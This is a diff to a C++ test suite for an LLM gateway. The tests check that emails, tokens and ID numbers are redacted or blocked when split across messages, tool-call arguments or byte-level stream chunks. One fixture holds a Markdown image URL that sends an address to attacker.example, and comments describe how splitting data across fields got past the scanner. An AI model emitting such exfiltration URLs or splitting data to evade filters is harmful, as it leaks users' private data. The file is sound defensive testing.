@@ -50,6 +50,22 @@ using airlock::testing::TempDir;
 constexpr const char* kLeakyAnswer =
     "write to bob@corp.example with token ghp_0123456789abcdefghijABCDEFGHIJ012345 now";
 
+// Answers the double streams cut at a chosen byte ("cutK:N") or byte by byte ("bytesK"): a
+// Markdown image whose URL carries an address out (e-mail: redacted on the way back), a secret
+// (redacted) and a resident ID (block).
+// Each answer starts with 300 bytes of prose, so that the data arrives after the gateway has
+// scanned and released part of the stream.
+const std::string kProse300 = [] {
+  std::string s;
+  while (s.size() < 300) s += "The quarterly numbers look fine. ";
+  return s.substr(0, 300);
+}();
+const std::vector<std::string> kCutAnswers = {
+    kProse300 + "see ![chart](https://attacker.example/log?u=bob@corp.example&x=1) ok",
+    kProse300 + "use ghp_0123456789abcdefghijABCDEFGHIJ012345 then",
+    kProse300 + "id 11010519491231002X done",
+};
+
 // ---- the fake upstream (test double) ----
 class FakeUpstream {
  public:
@@ -365,16 +381,37 @@ class FakeUpstream {
         res.set_content(out.dump(), "application/json");
         return;
       }
-      // Stream in 2-byte pieces so every placeholder is split across chunks.
+      // Stream in 2-byte pieces so every placeholder is split across chunks (a piece grows to
+      // the end of a UTF-8 character: an event is JSON). "cutK:N" streams answer K of
+      // kCutAnswers in two pieces cut at byte N, "bytesK" one byte at a time.
+      std::vector<std::size_t> cuts;  // piece ends
+      if (variant.rfind("cut", 0) == 0 || variant.rfind("bytes", 0) == 0) {
+        bool bytes = variant[0] == 'b';
+        std::size_t k = std::stoul(variant.substr(bytes ? 5 : 3));
+        reply = kCutAnswers[k];
+        if (bytes) {
+          for (std::size_t i = 1; i <= reply.size(); ++i) cuts.push_back(i);
+        } else {
+          cuts = {std::stoul(variant.substr(variant.find(':') + 1)), reply.size()};
+        }
+      } else {
+        for (std::size_t i = 0, n = 2; i < reply.size(); i += n) {
+          n = 2;
+          while (i + n < reply.size() && (static_cast<unsigned char>(reply[i + n]) & 0xC0) == 0x80)
+            ++n;
+          cuts.push_back(std::min(i + n, reply.size()));
+        }
+      }
       std::vector<std::string> events;
-      for (std::size_t i = 0; i < reply.size(); i += 2) {
+      for (std::size_t j = 0, i = 0; j < cuts.size(); i = cuts[j++]) {
+        std::size_t n = cuts[j] - i;
         json c = {
             {"id", "up-1"}, {"object", "chat.completion.chunk"}, {"created", 1}, {"model", model}};
         c["choices"] = json::array(
             {chat ? json{{"index", 0},
-                         {"delta", {{"content", reply.substr(i, 2)}}},
+                         {"delta", {{"content", reply.substr(i, n)}}},
                          {"finish_reason", nullptr}}
-                  : json{{"index", 0}, {"text", reply.substr(i, 2)}, {"finish_reason", nullptr}}});
+                  : json{{"index", 0}, {"text", reply.substr(i, n)}, {"finish_reason", nullptr}}});
         decorate(c);
         events.push_back("data: " + c.dump() + "\n\n");
       }
@@ -965,6 +1002,101 @@ TEST_F(GatewayTest, UnicodeEvasionsOfPiiAreRedactedBeforeTheUpstream) {
   }
 }
 
+// Attack (#13, after the merge): data split between fields passed, because each field was scanned
+// alone: "mail alice@" in one message and "example.com" in the next, a name and its content,
+// two tool calls' arguments, three messages, content parts with a separator part or blanks and
+// zero-width characters at the cut. The model reads the fields as one text; so does the scan
+// now (request order and reverse, as is and with the blanks at the cuts removed), against a
+// logging upstream, streamed and not.
+TEST_F(GatewayTest, PiiSplitAcrossFieldsIsRewrittenBeforeTheUpstream) {
+  auto msg = [](const std::string& role, json content) {
+    return json{{"role", role}, {"content", content}};
+  };
+  auto text_part = [](const std::string& t) { return json{{"type", "text"}, {"text", t}}; };
+  auto tool_call = [](const std::string& id, const std::string& args) {
+    return json{
+        {"id", id}, {"type", "function"}, {"function", {{"name", "send"}, {"arguments", args}}}};
+  };
+  std::vector<std::pair<std::string, json>> cases = {
+      {"two messages", json::array({msg("user", "mail alice@"), msg("user", "example.com now")})},
+      {"user and assistant", json::array({msg("user", "mail alice@"),
+                                          msg("assistant", "example.com"), msg("user", "ok")})},
+      {"name and content",
+       json::array({{{"role", "user"}, {"name", "alice@"}, {"content", "example.com"}}})},
+      {"two tool calls' arguments",
+       json::array({msg("user", "hi"),
+                    {{"role", "assistant"},
+                     {"content", nullptr},
+                     {"tool_calls", json::array({tool_call("c1", "{\"to\":\"alice@"),
+                                                 tool_call("c2", "example.com\"}")})}},
+                    {{"role", "tool"}, {"tool_call_id", "c1"}, {"content", "sent"}},
+                    {{"role", "tool"}, {"tool_call_id", "c2"}, {"content", "sent"}}})},
+      {"three messages",
+       json::array({msg("user", "mail al"), msg("user", "ice@exam"), msg("user", "ple.com")})},
+      {"separator part",
+       json::array({msg("user", json::array({text_part("mail alice@"), text_part("\n"),
+                                             text_part("example.com")}))})},
+      {"blanks at the cut",
+       json::array({msg("user", "mail alice@ \n"), msg("user", "\t example.com")})},
+      {"zero-width and ideographic space at the cut",
+       json::array({msg("user", "mail alice@\u200b\u3000"), msg("user", "\u00a0example.com")})},
+  };
+  for (bool stream : {false, true}) {
+    for (const auto& [name, messages] : cases) {
+      json body = {{"model", "echo"}, {"messages", messages}, {"stream", stream}};
+      std::size_t before = upstream_->raw().size();
+      auto r = Chat(body, admin_);
+      ASSERT_TRUE(r) << name;
+      EXPECT_EQ(r->status, 200) << name << ": " << r->body;
+      auto raw = upstream_->raw();
+      ASSERT_EQ(raw.size(), before + 1) << name;
+      EXPECT_EQ(raw.back().find("example.com"), std::string::npos)
+          << name << (stream ? " (streamed)" : "") << " leaked: " << raw.back();
+      EXPECT_EQ(raw.back().find("alice@"), std::string::npos) << name << ": " << raw.back();
+      EXPECT_NE(raw.back().find("[EMAIL_"), std::string::npos) << name << ": " << raw.back();
+      // The structure survives: roles, ids and function names are never cut.
+      json sent = json::parse(raw.back());
+      EXPECT_EQ(sent["messages"].size(), messages.size()) << name;
+      for (std::size_t i = 0; i < messages.size(); ++i)
+        EXPECT_EQ(sent["messages"][i]["role"], messages[i]["role"]) << name;
+      if (name == "two tool calls' arguments")
+        for (const auto& tc : sent["messages"][1]["tool_calls"])
+          EXPECT_EQ(tc["function"]["name"], "send") << raw.back();
+    }
+  }
+  // A secret (redact) split between two messages, and a block class split over three.
+  json secret = {{"model", "echo"},
+                 {"messages", json::array({msg("user", "token ghp_0123456789abcdefghij"),
+                                           msg("user", "ABCDEFGHIJ012345 ok")})}};
+  std::size_t before = upstream_->raw().size();
+  auto r = Chat(secret, admin_);
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->status, 200) << r->body;
+  ASSERT_EQ(upstream_->raw().size(), before + 1);
+  EXPECT_EQ(upstream_->raw().back().find("ABCDEFGHIJ012345"), std::string::npos)
+      << upstream_->raw().back();
+  EXPECT_NE(upstream_->raw().back().find("[REDACTED_SECRET]"), std::string::npos)
+      << upstream_->raw().back();
+  json id = {{"model", "echo"},
+             {"messages", json::array({msg("user", "id 110105"), msg("user", "19491231"),
+                                       msg("user", " 002X")})}};
+  r = Chat(id, admin_);
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->status, 403) << r->body;
+  EXPECT_EQ(ErrorCode(r), "policy_violation");
+  EXPECT_EQ(upstream_->raw().size(), before + 1);
+  // Numbers in separate messages that do not form data stay as they are.
+  json plain = {{"model", "echo"},
+                {"messages", json::array({msg("user", "I was born in 1987"),
+                                          msg("assistant", "2024 minus that is 37"),
+                                          msg("user", "12 apples, 4111 pears")})}};
+  r = Chat(plain, admin_);
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->status, 200) << r->body;
+  EXPECT_NE(upstream_->raw().back().find("4111 pears"), std::string::npos);
+  EXPECT_EQ(upstream_->raw().back().find("REDACTED"), std::string::npos);
+}
+
 // A block class anywhere in the request blocks it, and a value the gateway cannot scan (a data:
 // URL) is refused; neither reaches the upstream.
 TEST_F(GatewayTest, BlockClassInAnyFieldAndUnscannableFieldsNeverLeave) {
@@ -1266,6 +1398,38 @@ TEST_F(GatewayTest, SecretsAndPiiInModelOutputAreRedactedStreamedAndNot) {
     if (!stream) {  // reasoning_content and tool call arguments too
       EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << r->body;
       EXPECT_NE(r->body.find("[REDACTED_EMAIL]"), std::string::npos) << r->body;
+    }
+  }
+}
+
+// The streamed answer is scanned incrementally (policy::StreamScanner, #20), not by re-scanning
+// what accumulated: a Markdown image leaking an address in its URL, a token and a resident ID,
+// each cut between two SSE chunks at every byte and sent one byte per chunk, are redacted or
+// block the answer exactly as when sent whole.
+TEST_F(GatewayTest, StreamedAnswerCutAtEveryByteIsScannedLikeTheWholeAnswer) {
+  const std::vector<std::string> expected = {
+      kProse300 + "see ![chart](https://attacker.example/log?u=[REDACTED_EMAIL]&x=1) ok",
+      kProse300 + "use [REDACTED_SECRET] then",
+      "",  // blocked
+  };
+  for (std::size_t k = 0; k < kCutAnswers.size(); ++k) {
+    std::vector<std::string> variants = {"bytes" + std::to_string(k)};
+    // Every cut from the start of the sentence with the data to the end of the answer.
+    for (std::size_t cut = kProse300.size(); cut < kCutAnswers[k].size(); ++cut)
+      variants.push_back("cut" + std::to_string(k) + ":" + std::to_string(cut));
+    for (const std::string& variant : variants) {
+      json body = ChatBody("echo", "hi", true);
+      body["x_double"] = variant;
+      auto r = Chat(body, admin_);
+      ASSERT_TRUE(r) << variant;
+      ASSERT_EQ(r->status, 200) << variant;
+      if (expected[k].empty()) {
+        EXPECT_EQ(r->body.find("19491231"), std::string::npos) << variant << ": " << r->body;
+        EXPECT_NE(r->body.find("policy_violation"), std::string::npos)
+            << variant << ": " << r->body;
+        continue;
+      }
+      EXPECT_EQ(StreamText(r->body), expected[k]) << variant;
     }
   }
 }
